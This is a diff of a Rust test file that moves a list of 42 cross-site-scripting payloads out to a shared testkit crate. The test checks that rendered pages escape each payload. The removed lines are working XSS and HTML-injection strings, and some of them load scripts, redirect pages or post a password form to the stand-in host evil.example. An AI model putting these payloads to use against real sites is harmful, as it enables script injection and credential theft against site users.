@@ -2,55 +2,10 @@
 
 use axum::http::StatusCode;
 use exeat_domain::request::RequestId;
+use exeat_testkit::PAYLOADS;
 
 use crate::house::{House, Visitor, encoded};
 use crate::safety::inert;
-
-/// What has run in pages elsewhere.
-const PAYLOADS: [&str; 42] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script/src=data:,alert(1)>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
-    "<img src=`javascript:alert(1)`>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert&#40;1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=\"javascript:alert(1)\">",
-    "<embed src=\"javascript:alert(1)\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<form action=\"//evil.example\"><input name=password>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-    "<base href=\"//evil.example/\">",
-    "<link rel=stylesheet href=\"//evil.example/x.css\">",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<div style=\"background:url(//evil.example)\">",
-    "<div hx-get=\"//evil.example\" hx-trigger=load>",
-    "<div hx-on:click=\"alert(1)\" data-hx-on-load=\"alert(1)\">",
-    "\" onmouseover=\"alert(1)",
-    "' onfocus='alert(1)' autofocus='",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "--><script>alert(1)</script><!--",
-    "]]><script>alert(1)</script>",
-    "{{constructor.constructor('alert(1)')()}}<%= 7*7 %>${alert(1)}&lt;script&gt;",
-];
 
 /// No payload stands in the page as it was written; each that stands there is escaped.
 fn check(page: &str, what: &str) {
